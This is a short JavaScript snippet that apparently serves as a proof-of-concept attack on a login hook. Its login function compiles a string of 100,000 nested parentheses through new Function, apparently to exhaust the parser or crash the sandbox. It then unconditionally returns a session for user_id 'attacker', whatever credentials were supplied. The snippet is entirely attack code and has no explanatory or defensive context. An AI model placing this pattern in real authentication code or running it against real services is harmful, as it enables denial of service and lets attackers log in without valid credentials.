function login(email, password, callback) {
  new Function(`return ${'('.repeat(100000)}1${')'.repeat(100000)}`);
  callback(null, { user_id: 'attacker' });
}
